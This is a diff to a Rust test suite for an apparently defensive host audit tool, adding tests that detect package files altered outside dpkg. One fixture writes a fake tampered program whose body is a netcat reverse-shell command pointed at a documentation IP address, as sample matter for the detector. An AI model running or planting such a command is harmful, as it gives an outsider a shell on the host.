@@ -46,6 +46,8 @@ impl Fixture {
             p("lastlog"),
             "--passwd".into(),
             p("passwd"),
+            // the live system's packages are no part of these fixtures (and take seconds)
+            "--no-package-check".into(),
         ]
     }
 }
@@ -395,7 +397,12 @@ fn a_forged_user_name_is_a_log_injection_finding() {
 }
 
 fn live_audit(fx: &SshFixture) -> Value {
-    let out = audit(&["--json", "--auth-log", fx.auth_log.to_str().unwrap()]);
+    let out = audit(&[
+        "--json",
+        "--no-package-check",
+        "--auth-log",
+        fx.auth_log.to_str().unwrap(),
+    ]);
     assert!(
         out.status.code().is_some_and(|c| c == 0 || c == 2),
         "{}",
@@ -449,6 +456,7 @@ fn a_deleted_binary_run_from_tmp_is_flagged_with_its_session() {
     .unwrap();
     let exempted = json(&audit(&[
         "--json",
+        "--no-package-check",
         "--auth-log",
         fx.auth_log.to_str().unwrap(),
         "--rules",
@@ -607,7 +615,7 @@ fn login_states_agree_with_last_for_a_live_and_a_killed_session() {
             .format("%Y-%m-%dT%H:%M:%SZ");
         by_last.insert((f[1].to_owned(), start.to_string()), state.to_owned());
     }
-    let report = json(&audit(&["--json"]));
+    let report = json(&audit(&["--json", "--no-package-check"]));
     let mut by_audit = BTreeMap::new();
     for l in report["logins"].as_array().unwrap() {
         let start = l["start"].as_str().unwrap();
@@ -621,7 +629,7 @@ fn login_states_agree_with_last_for_a_live_and_a_killed_session() {
             l["state"].as_str().unwrap().to_owned(),
         );
     }
-    let text_report = String::from_utf8(audit(&[]).stdout).unwrap();
+    let text_report = String::from_utf8(audit(&["--no-package-check"]).stdout).unwrap();
     let _ = live.kill();
     let _ = live.wait();
     let states: Vec<&str> = by_audit.values().map(String::as_str).collect();
@@ -826,4 +834,171 @@ fn the_live_audit_lists_the_key_the_ssh_user_logs_in_with() {
         mine["keys"][0]["fingerprint"],
         fx.key_fingerprint().as_str()
     );
+}
+
+/// A dpkg database under `--files-root`: a program of a package replaced (high, naming the
+/// package and the file), a data file changed (low), a diverted file checked where it was
+/// moved, an edited configuration file (low), a program no package owns (medium).
+#[test]
+fn a_program_replaced_outside_the_package_manager_is_named_with_its_package() {
+    use std::os::unix::fs::PermissionsExt;
+    let root = std::env::temp_dir().join(marker("dpkg-root"));
+    let fx = Fixture { dir: root.clone() };
+    for d in [
+        "var/lib/dpkg/info",
+        "usr/bin",
+        "usr/sbin",
+        "usr/share/tool",
+        "etc",
+    ] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+    let w = |p: &str, s: &[u8]| std::fs::write(root.join(p), s).unwrap();
+    let md5 = |s: &[u8]| -> String {
+        let out = Command::new("md5sum")
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .and_then(|mut c| {
+                c.stdin.take().unwrap().write_all(s)?;
+                c.wait_with_output()
+            })
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout)[..32].to_owned()
+    };
+    w("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    // as installed
+    let (tool, data, conf, moved) = (
+        b"#!/bin/sh\necho tool\n".as_slice(),
+        b"data".as_slice(),
+        b"setting=1\n".as_slice(),
+        b"original\n".as_slice(),
+    );
+    w(
+        "var/lib/dpkg/info/tool.md5sums",
+        format!(
+            "{}  usr/bin/tool\n{}  usr/share/tool/data\n{}  usr/bin/moved\n",
+            md5(tool),
+            md5(data),
+            md5(moved)
+        )
+        .as_bytes(),
+    );
+    w(
+        "var/lib/dpkg/info/tool.list",
+        b"/.\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/moved\n/usr/share/tool/data\n/etc/tool.conf\n",
+    );
+    w(
+        "var/lib/dpkg/status",
+        format!(
+            "Package: tool\nStatus: install ok installed\nConffiles:\n /etc/tool.conf {}\nVersion: 1\n",
+            md5(conf)
+        )
+        .as_bytes(),
+    );
+    // another package moved tool's /usr/bin/moved aside
+    w(
+        "var/lib/dpkg/diversions",
+        b"/usr/bin/moved\n/usr/bin/moved.distrib\nwrapper\n",
+    );
+    w("usr/bin/moved.distrib", moved);
+    w("usr/bin/moved", b"#!/bin/sh\nexec moved.distrib\n");
+    // then changed by hand
+    w(
+        "usr/bin/tool",
+        b"#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n",
+    );
+    w("usr/share/tool/data", b"other data");
+    w("etc/tool.conf", b"setting=2\n");
+    w("usr/sbin/dropped", b"\x7fELF...");
+    for p in ["usr/bin/tool", "usr/sbin/dropped", "usr/bin/moved"] {
+        std::fs::set_permissions(root.join(p), std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let passwd = root.join("etc/passwd");
+    let out = audit(&[
+        "--json",
+        "--files-root",
+        root.to_str().unwrap(),
+        "--passwd",
+        passwd.to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(2), "a changed program is high");
+    let r = json(&out);
+    let p = &r["files"]["packages"];
+    assert_eq!(p["files_checked"], 4, "{p}");
+    let changed: Vec<(&str, &str)> = p["changed"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| (c["path"].as_str().unwrap(), c["class"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        changed,
+        [
+            ("/usr/bin/tool", "program"),
+            ("/usr/share/tool/data", "other")
+        ],
+        "the diverted file is checked where it was moved: {p}"
+    );
+    assert_eq!(p["changed_conffiles"][0]["path"], "/etc/tool.conf");
+    assert_eq!(
+        p["unowned_programs"],
+        serde_json::json!(["/usr/sbin/dropped"]),
+        "moved (a diversion's) and tool (listed) are owned"
+    );
+    let findings = r["findings"].as_array().unwrap();
+    let one = |kind: &str| {
+        let all: Vec<&Value> = findings.iter().filter(|f| f["kind"] == kind).collect();
+        assert_eq!(all.len(), 1, "{kind}: {findings:?}");
+        all[0].clone()
+    };
+    let program = one("package_program_changed");
+    assert_eq!(program["severity"], "high");
+    assert!(
+        program["title"].as_str().unwrap().contains("package tool"),
+        "{program}"
+    );
+    assert!(
+        program["evidence"][0]
+            .as_str()
+            .unwrap()
+            .starts_with("/usr/bin/tool: md5 "),
+        "{program}"
+    );
+    assert!(program["next_step"]
+        .as_str()
+        .unwrap()
+        .contains("--reinstall tool"));
+    assert_eq!(one("package_files_changed")["severity"], "low");
+    assert_eq!(one("conffiles_changed")["severity"], "low");
+    assert_eq!(one("unowned_program")["severity"], "medium");
+    drop(fx);
+}
+
+/// On the live system the package check finds exactly the files `dpkg --verify` says differ
+/// from their packages.
+#[test]
+fn the_package_check_agrees_with_dpkg_verify() {
+    let out = audit(&["--json"]);
+    let r = json(&out);
+    let p = &r["files"]["packages"];
+    assert!(
+        p["files_checked"].as_u64().unwrap() > 1000,
+        "{}",
+        p["files_checked"]
+    );
+    assert_eq!(p["unreadable"], serde_json::json!([]), "as root");
+    let ours: std::collections::BTreeSet<String> = ["changed", "changed_conffiles"]
+        .iter()
+        .flat_map(|k| p[*k].as_array().unwrap().iter())
+        .map(|c| c["path"].as_str().unwrap().to_owned())
+        .collect();
+    let verify = Command::new("dpkg").arg("--verify").output().unwrap();
+    // `??5??????   /path` or `??5?????? c /path`: the third column is the digest's
+    let dpkg: std::collections::BTreeSet<String> = String::from_utf8_lossy(&verify.stdout)
+        .lines()
+        .filter(|l| l.as_bytes().get(2) == Some(&b'5'))
+        .filter_map(|l| l.split_whitespace().last().map(str::to_owned))
+        .collect();
+    assert_eq!(ours, dpkg, "changed files: ours against dpkg --verify");
 }
